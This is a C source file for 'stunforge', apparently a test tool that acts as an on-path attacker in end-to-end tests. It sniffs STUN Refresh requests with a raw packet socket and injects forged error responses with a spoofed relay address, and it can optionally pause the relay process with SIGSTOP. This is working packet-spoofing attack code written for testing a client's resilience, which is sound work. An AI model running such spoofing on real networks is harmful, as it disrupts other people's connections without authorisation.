// SPDX-License-Identifier: GPL-2.0
/*
 * stunforge: an on-path attacker for the e2e tests. It watches UDP (IPv4
 * or IPv6) on one interface for STUN Refresh requests to the relay and
 * answers each at once with a forged error response: the request's
 * transaction id, the given error code, no MESSAGE-INTEGRITY (it cannot
 * make one), from the relay's address and port, sent back out of the
 * interface to the MAC address the request came from.
 *
 *   stunforge --ifname IF --relay A.B.C.D:PORT|[V6]:PORT --code N --seconds S
 *             [--stall-pid PID --stall-ms MS]
 *
 * --stall-pid stands in for a distant relay where netem is missing: the
 * relay process is stopped (SIGSTOP) as the request passes and continued
 * MS later, so its real answer comes after the forgery, as it would from
 * far away. Prints "forged: N" when done.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

#define COOKIE 0x2112A442u
#define REFRESH_REQUEST 0x0004
#define REFRESH_ERROR 0x0114

static void put16(uint8_t *p, uint16_t v) { p[0] = v >> 8; p[1] = v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v); }

/* The error response to the request whose header is req: ERROR-CODE, then
 * FINGERPRINT (RFC 8489 14.7: CRC-32 xor 0x5354554e). */
static size_t forge(uint8_t *out, const uint8_t *req, unsigned code)
{
	static const char reason[8] = "forged\0\0";
	size_t n = 20;
	uint32_t crc;

	put16(out, REFRESH_ERROR);
	memcpy(out + 4, req + 4, 16);	/* cookie and transaction id */
	put16(out + n, 0x0009);
	put16(out + n + 2, 4 + 6);
	out[n + 4] = out[n + 5] = 0;
	out[n + 6] = code / 100;
	out[n + 7] = code % 100;
	memcpy(out + n + 8, reason, 8);	/* 6 bytes, padded to 8 */
	n += 16;
	put16(out + 2, n - 20 + 8);	/* the length covers FINGERPRINT */
	crc = crc32(0, out, n) ^ 0x5354554eu;
	put16(out + n, 0x8028);
	put16(out + n + 2, 4);
	put32(out + n + 4, crc);
	return n + 8;
}

/* One's complement sum of buf, added to s (RFC 1071). */
static uint32_t sum16(uint32_t s, const void *buf, size_t len)
{
	const uint8_t *p = buf;

	for (size_t i = 0; i + 1 < len; i += 2)
		s += (p[i] << 8) | p[i + 1];
	if (len & 1)
		s += p[len - 1] << 8;
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

struct relay {
	int family;
	uint8_t addr[16];
	uint16_t port;	/* network order */
};

/* "A.B.C.D:PORT" or "[V6]:PORT" */
static int parse_relay(const char *s, struct relay *r)
{
	char host[64], *colon;

	if (strlen(s) >= sizeof(host))
		return -1;
	strcpy(host, s);
	colon = strrchr(host, ':');
	if (!colon)
		return -1;
	*colon = 0;
	r->port = htons(atoi(colon + 1));
	if (host[0] == '[' && colon[-1] == ']') {
		colon[-1] = 0;
		r->family = AF_INET6;
		return inet_pton(AF_INET6, host + 1, r->addr) == 1 ? 0 : -1;
	}
	r->family = AF_INET;
	return inet_pton(AF_INET, host, r->addr) == 1 ? 0 : -1;
}

/* The Refresh request to the relay in the IP packet pkt: its STUN header,
 * or NULL. Sets *hl to the IP header's length. */
static const uint8_t *refresh_to(const uint8_t *pkt, size_t n,
				 const struct relay *r, size_t *hl)
{
	const struct udphdr *udp;
	const uint8_t *stun;

	if (r->family == AF_INET) {
		const struct iphdr *ip = (const void *)pkt;

		if (n < 20 || ip->version != 4 || ip->protocol != IPPROTO_UDP ||
		    memcmp(&ip->daddr, r->addr, 4))
			return NULL;
		*hl = ip->ihl * 4;
	} else {
		const struct ip6_hdr *ip6 = (const void *)pkt;

		if (n < 40 || (pkt[0] >> 4) != 6 || ip6->ip6_nxt != IPPROTO_UDP ||
		    memcmp(&ip6->ip6_dst, r->addr, 16))
			return NULL;
		*hl = 40;
	}
	udp = (const void *)(pkt + *hl);
	stun = pkt + *hl + 8;
	if (n < *hl + 8 + 20 || udp->dest != r->port ||
	    ((stun[0] << 8) | stun[1]) != REFRESH_REQUEST ||
	    ntohl(*(const uint32_t *)(stun + 4)) != COOKIE)
		return NULL;
	return stun;
}

/* The forged answer to the request in pkt, IP header and all, in out:
 * from the relay back to the sender. Returns its length. IPv4's UDP
 * checksum is left 0 (allowed); IPv6 needs one. */
static size_t answer(uint8_t *out, const uint8_t *pkt, size_t hl,
		     const uint8_t *stun, unsigned code)
{
	const struct udphdr *udp = (const void *)(pkt + hl);
	size_t ohl = pkt[0] >> 4 == 4 ? 20 : 40;
	struct udphdr *oudp = (void *)(out + ohl);
	size_t len = forge(out + ohl + 8, stun, code);

	memset(out, 0, ohl + 8);
	oudp->source = udp->dest;
	oudp->dest = udp->source;
	oudp->len = htons(8 + len);
	if (ohl == 20) {
		const struct iphdr *ip = (const void *)pkt;
		struct iphdr *oip = (void *)out;

		oip->version = 4;
		oip->ihl = 5;
		oip->ttl = 64;
		oip->protocol = IPPROTO_UDP;
		oip->tot_len = htons(28 + len);
		oip->saddr = ip->daddr;
		oip->daddr = ip->saddr;
		oip->check = htons(fold(sum16(0, out, 20)));
	} else {
		const struct ip6_hdr *ip6 = (const void *)pkt;
		struct ip6_hdr *oip6 = (void *)out;
		uint32_t s;
		uint16_t c;

		oip6->ip6_flow = htonl(6u << 28);
		oip6->ip6_plen = htons(8 + len);
		oip6->ip6_nxt = IPPROTO_UDP;
		oip6->ip6_hlim = 64;
		oip6->ip6_src = ip6->ip6_dst;
		oip6->ip6_dst = ip6->ip6_src;
		/* pseudo-header: addresses, UDP length, next header */
		s = sum16(0, &oip6->ip6_src, 32);
		s += 8 + len + IPPROTO_UDP;
		c = fold(sum16(s, oudp, 8 + len));
		oudp->check = htons(c ? c : 0xffff);
	}
	return ohl + 8 + len;
}

int main(int argc, char **argv)
{
	const char *ifname = NULL, *relay = NULL;
	unsigned code = 437, seconds = 10, forged = 0, stall_ms = 0;
	pid_t stall = 0;
	struct relay rl;
	struct sockaddr_ll sll = { .sll_family = AF_PACKET,
				   .sll_protocol = htons(ETH_P_ALL) };
	static const struct option opts[] = {
		{ "ifname", 1, 0, 'i' }, { "relay", 1, 0, 'r' },
		{ "code", 1, 0, 'c' }, { "seconds", 1, 0, 's' },
		{ "stall-pid", 1, 0, 'p' }, { "stall-ms", 1, 0, 'm' }, { 0 } };
	int o, sock;
	time_t end;

	while ((o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (o) {
		case 'i': ifname = optarg; break;
		case 'r': relay = optarg; break;
		case 'c': code = atoi(optarg); break;
		case 's': seconds = atoi(optarg); break;
		case 'p': stall = atoi(optarg); break;
		case 'm': stall_ms = atoi(optarg); break;
		default: return 2;
		}
	}
	if (!ifname || !relay) {
		fprintf(stderr, "usage: stunforge --ifname IF --relay A:P|[V6]:P --code N --seconds S\n");
		return 2;
	}
	if (parse_relay(relay, &rl)) {
		fprintf(stderr, "stunforge: bad --relay %s\n", relay);
		return 2;
	}
	sll.sll_ifindex = if_nametoindex(ifname);
	/* One packet socket sniffs and sends: the answer goes back out of
	 * the interface to the MAC address the request came from. */
	sock = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
	if (!sll.sll_ifindex || sock < 0 || bind(sock, (void *)&sll, sizeof(sll))) {
		perror("stunforge");
		return 1;
	}
	end = time(NULL) + seconds;
	while (time(NULL) < end) {
		struct pollfd pfd = { .fd = sock, .events = POLLIN };
		uint8_t in[2048], out[256];
		struct sockaddr_ll from;
		socklen_t fl = sizeof(from);
		const uint8_t *stun;
		ssize_t n;
		size_t hl, len;

		if (poll(&pfd, 1, 200) <= 0)
			continue;
		n = recvfrom(sock, in, sizeof(in), 0, (void *)&from, &fl);
		if (n <= 0 || from.sll_pkttype == PACKET_OUTGOING)
			continue;
		stun = refresh_to(in, n, &rl, &hl);
		if (!stun)
			continue;
		if (stall)
			kill(stall, SIGSTOP);
		len = answer(out, in, hl, stun, code);
		from.sll_pkttype = 0;
		if (sendto(sock, out, len, 0, (void *)&from, sizeof(from)) > 0)
			forged++;
		if (stall) {
			usleep(stall_ms * 1000);
			kill(stall, SIGCONT);
		}
	}
	printf("forged: %u\n", forged);
	return 0;
}
